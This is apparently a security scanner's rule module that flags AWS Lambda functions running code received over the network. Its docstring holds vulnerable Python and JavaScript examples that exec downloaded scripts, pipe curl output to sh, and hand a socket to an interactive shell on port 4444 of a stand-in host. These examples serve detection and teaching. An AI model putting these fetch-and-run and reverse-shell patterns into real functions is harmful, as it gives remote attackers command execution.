"""What comes over the network is run as code.

## Why it matters
Whoever answers at that address, today or after it was taken over, or stands on an unencrypted way to it, runs commands
with the function's role. A socket that is handed to a shell is a back door, whoever put it there.

## Vulnerable
```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Report:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: python3.13
      Handler: app.handler
      CodeUri: .
      Events:
        Night: {Type: Schedule, Properties: {Schedule: rate(1 day)}}
```
```python app.py
import os
import socket
import subprocess

import requests


def handler(event, context):
    exec(requests.get("https://scripts.example/report.py").text)  # GOAT0122
    os.system("curl -s https://scripts.example/setup.sh | sh")  # GOAT0122
    connection = socket.create_connection(("scripts.example", 4444))
    subprocess.run(connection.recv(1024).decode(), shell=True)  # GOAT0122
    os.dup2(connection.fileno(), 0)  # GOAT0122
    subprocess.call(["/bin/sh", "-i"])
```

## Fixed
```python app.py
import os
import socket
import subprocess

import report
import requests


def handler(event, context):
    sizes = requests.get("https://scripts.example/sizes.json").json()
    report.write(sizes)
    subprocess.run(["convert", "-resize", sizes["small"], "/tmp/picture"])
    os.system("curl -s https://scripts.example/sizes.json | jq .small")
    connection = socket.create_connection(("scripts.example", 4444))
    connection.sendall(b"ping")
    print(len(connection.recv(1024)))
    subprocess.call(["/bin/sh", "setup.sh"])
```

## Vulnerable, in JavaScript
```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Report:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: nodejs22.x
      Handler: app.handler
      CodeUri: .
      Events:
        Night: {Type: Schedule, Properties: {Schedule: rate(1 day)}}
```
```javascript app.js
const axios = require('axios');
const { exec, spawn } = require('child_process');
const net = require('net');

exports.handler = async () => {
  const script = await axios.get('https://scripts.example/report.js');
  eval(script.data);  // GOAT0122
  const client = new net.Socket();
  client.on('data', (data) => exec(data.toString()));  // GOAT0122
  const shell = spawn('/bin/sh', []);
  client.connect(4444, 'scripts.example', () => client.pipe(shell.stdin));  // GOAT0122
};
```

## Fixed, in JavaScript
```javascript app.js
const axios = require('axios');
const { execFile, spawn } = require('child_process');
const net = require('net');

exports.handler = async () => {
  const sizes = await axios.get('https://scripts.example/sizes.json');
  execFile('convert', ['-resize', sizes.data.small, '/tmp/picture']);
  const client = new net.Socket();
  client.on('data', (data) => console.log(data.length));
  const convert = spawn('convert', ['-', '/tmp/picture']);
  client.connect(4444, 'scripts.example', () => client.write('ping'));
  convert.stdout.pipe(process.stdout);
};
```

## Remedy
Deploy the code with the function, pinned and checked; what comes over the network is data.

## References
- https://cwe.mitre.org/data/definitions/494.html
"""

from __future__ import annotations

from collections.abc import Iterator

from attrs import evolve

from goatherd.checks.api import check
from goatherd.core.finding import HIGH, MEDIUM, Finding
from goatherd.model.application import Application
from goatherd.model.function import Function

SOCKETS = ("socket.socket", "socket.create_connection", "net.", "tls.")  # nothing shows who is at the other end


@check("GOAT0122", sas=1, cwe=494, severity=MEDIUM, since="0.1")
def remote_answer_is_run(function: Function, app: Application) -> Iterator[Finding]:
    lines = {(flow.sink.path, flow.sink.line): flow for flow in app.flows(function, "remote-code")}
    for flow in lines.values():
        finding = flow.finding(f"What {flow.source.path} receives is run by {flow.sink_name}")
        yield evolve(finding, severity=HIGH if flow.source.path.startswith(SOCKETS) else MEDIUM)
